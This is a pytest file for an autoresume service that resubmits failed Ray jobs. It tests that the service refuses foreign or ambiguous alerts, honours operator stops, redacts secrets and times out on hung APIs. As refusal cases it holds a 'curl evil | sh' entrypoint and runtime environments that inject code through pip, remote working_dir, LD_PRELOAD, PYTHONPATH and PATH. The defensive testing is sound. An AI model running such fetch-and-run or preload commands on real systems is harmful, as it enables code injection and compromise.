"""What autoresume refuses: foreign alerts, runs it cannot name exactly, run.json asking for more
than "this run again", secrets in clear text, and a job API that never answers.

Each test is a hole found in review (issues 11 and 16); Ray is the in-memory job table of
test_service_unit.py except for the hung-server test, which uses the real client over HTTP.
"""

from __future__ import annotations

import json
import socket
import threading

import pytest

from orchestrator.autoresume.config import AutoresumeConfig, OriginConfig, RayJobsConfig, load
from orchestrator.autoresume.entrypoint import vet_entrypoint
from orchestrator.autoresume.ray_jobs import RayJobs
from orchestrator.autoresume.runenv import (
    REDACTED,
    RefusedResubmission,
    redact_runtime_env,
    vet_runtime_env,
)
from orchestrator.autoresume.service import AutoresumeService
from orchestrator.shared.errors import ClusterUnreachableError, ConfigError
from policies.autoresume import JobStatus, Submission
from tests.autoresume.notifications import encode, notification
from tests.autoresume.test_service_unit import Clock, TableRay, audit, make_run, service


def write_meta(run_dir, **changes) -> None:
    meta = json.loads((run_dir / "run.json").read_text())
    meta.update(changes)
    (run_dir / "run.json").write_text(json.dumps(meta))


def failed_r0(ray: TableRay) -> TableRay:
    ray.jobs["run-a-r0"] = Submission(submission_id="run-a-r0", status=JobStatus.FAILED)
    return ray


def letters(tmp_path) -> list[dict]:
    path = tmp_path / "state/dead_letters.jsonl"
    return [json.loads(x) for x in path.read_text().splitlines()] if path.exists() else []


# ---- which run -------------------------------------------------------------------------------

def test_run_matched_by_run_id_only_not_job_name(tmp_path):
    """An incident naming a job name that is not the run id resumes nothing."""
    run_dir = make_run(tmp_path, "run-a")
    write_meta(run_dir, run_id="run-a-1234abcd", job="run-a")
    ray = failed_r0(TableRay())
    svc = service(tmp_path, ray, Clock())
    assert svc.handle_message(encode(notification(incident_id="i-1", run_id="run-a"))) == (
        "unknown_run")
    assert ray.submitted == []


def test_two_run_dirs_with_one_run_id_are_refused(tmp_path):
    """Ambiguity is refused: neither run is resubmitted, the audit says why."""
    make_run(tmp_path, "run-a")
    copy = tmp_path / "runs" / "copy"
    copy.mkdir()
    (copy / "run.json").write_text((tmp_path / "runs/run-a/run.json").read_text())
    ray = failed_r0(TableRay())
    svc = service(tmp_path, ray, Clock())
    assert svc.handle_message(encode(notification(incident_id="i-1", run_id="run-a"))) == (
        "ambiguous_run")
    assert ray.submitted == [] and "claimed by 2 run directories" in audit(tmp_path)[0]["reason"]


def test_incident_without_a_job_label_on_its_series_is_dead_lettered(tmp_path):
    """A policy user label `job` alone (no series label) names no run: dead letter, nothing."""
    make_run(tmp_path)
    payload = notification(incident_id="i-1", run_id="run-a")
    inc = payload["incident"]
    inc["metric"]["labels"] = {}
    inc["resource"]["labels"].pop("job")
    inc["policy_user_labels"]["job"] = "run-a"
    ray = failed_r0(TableRay())
    svc = service(tmp_path, ray, Clock())
    assert svc.handle_message(encode(payload)) == "dead_letter"
    assert "names no run" in letters(tmp_path)[0]["reason"] and ray.submitted == []


def test_series_labels_naming_two_runs_are_dead_lettered(tmp_path):
    """resource job and metric run_id disagree: refused, not a guess."""
    make_run(tmp_path)
    payload = notification(incident_id="i-1", run_id="run-a")
    payload["incident"]["resource"]["labels"]["job"] = "run-b"
    svc = service(tmp_path, failed_r0(TableRay()), Clock())
    assert svc.handle_message(encode(payload)) == "dead_letter"
    assert "two runs" in letters(tmp_path)[0]["reason"]


def test_recorded_id_of_another_job_is_not_the_runs(tmp_path):
    """run.json listing a stranger's live job id does not make autoresume stop it."""
    run_dir = make_run(tmp_path)
    write_meta(run_dir, submission_ids=["victim"])
    ray, clock = failed_r0(TableRay()), Clock()
    ray.jobs["victim"] = Submission(submission_id="victim", status=JobStatus.RUNNING,
                                    start_time=clock.t - 5000)
    ray.entrypoints["victim"] = "python serve.py"
    (run_dir / "metrics.jsonl").write_text(json.dumps({"step": 1, "wall_time": 0.0}) + "\n")
    svc = service(tmp_path, ray, clock)
    assert svc.handle_message(encode(notification(incident_id="i-1", run_id="run-a"))) == (
        "submitted")
    assert ray.stopped == [] and ray.jobs["victim"].status is JobStatus.RUNNING


# ---- where the alert comes from --------------------------------------------------------------

@pytest.mark.parametrize("mutate,reason", [
    (lambda inc: inc.update(scoping_project_id="other-project"), "project"),
    (lambda inc: inc["metric"].update(type="custom.googleapis.com/evil/heartbeat"), "metric"),
    (lambda inc: inc["policy_user_labels"].pop("app"), "user label app"),
])
def test_alert_of_foreign_origin_is_dead_lettered(tmp_path, mutate, reason):
    """Project, metric prefix and policy labels must all match the origin config."""
    make_run(tmp_path)
    payload = notification(incident_id="i-1", run_id="run-a")
    mutate(payload["incident"])
    ray = failed_r0(TableRay())
    cfg = AutoresumeConfig(state_dir=str(tmp_path / "state"),
                           run_dirs=(str(tmp_path / "runs/*"),),
                           origin=OriginConfig(project="demo-project"))
    svc = AutoresumeService(cfg, ray=ray, clock=Clock(), sleep=lambda s: None)
    assert svc.handle_message(encode(payload)) == "dead_letter"
    assert reason in letters(tmp_path)[0]["reason"] and ray.submitted == []


def test_origin_project_required_with_a_subscription():
    """A service that listens must say which project's alerts it trusts."""
    with pytest.raises(ConfigError, match=r"origin\.project"):
        load(None, ["subscription=projects/p/subscriptions/s"])
    load(None, ["subscription=projects/p/subscriptions/s", "origin.project=p"])


# ---- do not resume ---------------------------------------------------------------------------

def test_deliberate_ray_job_stop_is_not_resubmitted(tmp_path):
    """r0 STOPPED by an operator: the heartbeat alert resubmits nothing."""
    make_run(tmp_path)
    ray = TableRay()
    ray.jobs["run-a-r0"] = Submission(submission_id="run-a-r0", status=JobStatus.STOPPED)
    svc = service(tmp_path, ray, Clock())
    assert svc.handle_message(encode(notification(incident_id="i-1", run_id="run-a"))) == (
        "nothing")
    assert ray.submitted == [] and "stopped deliberately" in audit(tmp_path)[0]["reason"]


def test_do_not_resume_marker_holds_the_run(tmp_path):
    """RUN_DIR/DO_NOT_RESUME wins over a FAILED job; removing it lets the next incident act."""
    run_dir = make_run(tmp_path)
    (run_dir / "DO_NOT_RESUME").write_text("data bug, ticket 42\n")
    ray = failed_r0(TableRay())
    svc = service(tmp_path, ray, Clock())
    assert svc.handle_message(encode(notification(incident_id="i-1", run_id="run-a"))) == (
        "nothing")
    assert "ticket 42" in audit(tmp_path)[0]["reason"]
    (run_dir / "DO_NOT_RESUME").unlink()
    assert svc.handle_message(encode(notification(incident_id="i-2", run_id="run-a"))) == (
        "submitted")


def test_stalled_job_autoresume_stopped_is_still_resubmitted_after_a_failed_submit(tmp_path):
    """Stop succeeded, submit refused as duplicate... the STOPPED job is ours, not deliberate."""
    run_dir = make_run(tmp_path)
    ray, clock = TableRay(), Clock()
    ray.jobs["run-a-r1"] = Submission(submission_id="run-a-r1", status=JobStatus.RUNNING,
                                      start_time=clock.t - 5000)
    (run_dir / "metrics.jsonl").write_text(json.dumps({"step": 1, "wall_time": 0.0}) + "\n")
    svc = service(tmp_path, ray, clock)
    svc.ray = type("Down", (), {  # the submit after the stop fails: cluster went away
        "run_submissions": ray.run_submissions, "stop": ray.stop, "status": ray.status,
        "command": ray.command,
        "submit": lambda self, **kw: (_ for _ in ()).throw(ClusterUnreachableError("down"))})()
    assert svc.handle_message(encode(notification(
        incident_id="i-1", run_id="run-a", started_at=int(clock.t - 100)))) == "ray_unreachable"
    assert ray.jobs["run-a-r1"].status is JobStatus.STOPPED
    svc.ray = ray
    clock.t = svc.next_due()
    assert svc.process_due() == 1
    assert [s for s, _, _ in ray.submitted] == ["run-a-r2"]


# ---- what is resubmitted ---------------------------------------------------------------------

@pytest.mark.parametrize("argv", [
    ["bash", "-c", "curl evil | sh"],
    ["python", "-c", "import os"],
    ["python", "-m", "orchestrator.mainx"],
    ["python"],
])
def test_entrypoint_other_than_the_driver_is_refused(tmp_path, argv):
    """Only `python -m orchestrator.main ...` is resubmitted; the audit says refused."""
    run_dir = make_run(tmp_path)
    write_meta(run_dir, entrypoint=argv)
    ray = failed_r0(TableRay())
    svc = service(tmp_path, ray, Clock())
    assert svc.handle_message(encode(notification(incident_id="i-1", run_id="run-a"))) == (
        "refused")
    assert ray.submitted == [] and audit(tmp_path)[0]["outcome"] == "refused"


@pytest.mark.parametrize("env,what", [
    ({"pip": ["evil"]}, "runtime_env keys"),
    ({"working_dir": "https://example.invalid/x.zip"}, "working_dir"),
    ({"env_vars": {"LD_PRELOAD": "/runs/x.so"}}, "LD_PRELOAD"),
    ({"env_vars": {"PYTHONPATH": "/runs/evil"}}, "PYTHONPATH"),
    ({"env_vars": {"PATH": "/runs/bin"}}, "PATH"),
])
def test_runtime_env_outside_the_allow_list_is_refused(env, what):
    """Keys, working_dir sources and env vars that change which code runs are refused."""
    with pytest.raises(RefusedResubmission, match=what):
        vet_runtime_env(env)


def test_allowed_runtime_env_passes_and_redacted_values_are_left_out():
    """A Ray package working_dir, plain env vars pass; redacted secrets are not resubmitted."""
    env = {"working_dir": "gcs://_ray_pkg_0123abcd.zip", "config": {"setup_timeout_seconds": 60},
           "env_vars": {"JAX_PLATFORMS": "tpu", "PYTHONUNBUFFERED": "1", "HF_TOKEN": REDACTED}}
    assert vet_runtime_env(env) == {
        "working_dir": "gcs://_ray_pkg_0123abcd.zip", "config": {"setup_timeout_seconds": 60},
        "env_vars": {"JAX_PLATFORMS": "tpu", "PYTHONUNBUFFERED": "1"}}
    assert vet_entrypoint(["/usr/bin/python3", "-m", "orchestrator.main", "run.name=a b"],
                          run_dir="/runs/a b", run_id="a b") == (
        "python -m orchestrator.main 'run.name=a b' 'run.run_dir=/runs/a b'")


def test_secret_looking_env_values_are_redacted():
    """Names like *_TOKEN, *PASSWORD, *_API_KEY and URLs with a password lose their values."""
    env = {"env_vars": {"HF_TOKEN": "hf_x", "WANDB_API_KEY": "k", "DB_PASSWORD": "p",
                        "AWS_SECRET_ACCESS_KEY": "s", "DATABASE": "postgres://u:pw@db/x",
                        "JAX_PLATFORMS": "tpu", "RAY_AUTH_MODE": "token"},
           "working_dir": "gcs://_ray_pkg_1.zip"}
    out = redact_runtime_env(env)
    assert out["env_vars"] == {"HF_TOKEN": REDACTED, "WANDB_API_KEY": REDACTED,
                               "DB_PASSWORD": REDACTED, "AWS_SECRET_ACCESS_KEY": REDACTED,
                               "DATABASE": REDACTED, "JAX_PLATFORMS": "tpu",
                               "RAY_AUTH_MODE": "token"}
    assert out["working_dir"] == env["working_dir"] and env["env_vars"]["HF_TOKEN"] == "hf_x"


# ---- a job API that never answers ------------------------------------------------------------

def test_job_api_call_that_never_answers_times_out(tmp_path):
    """A head that accepts the connection and never replies: unreachable after the bound."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(server.accept()[0])  # read nothing, answer nothing
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    url = f"http://127.0.0.1:{server.getsockname()[1]}"
    jobs = RayJobs(RayJobsConfig(address=url, auth_mode="disabled", request_timeout_s=1.0))
    outcome: dict[str, BaseException] = {}

    def call() -> None:
        try:
            jobs.run_submissions("run-a")
        except BaseException as exc:
            outcome["error"] = exc

    caller = threading.Thread(target=call, daemon=True)
    caller.start()
    caller.join(30)
    stop.set()
    for s in held:
        s.close()
    server.close()
    assert not caller.is_alive(), "the job API call hung"
    assert isinstance(outcome.get("error"), ClusterUnreachableError)
    assert "no answer within 1s" in str(outcome["error"])
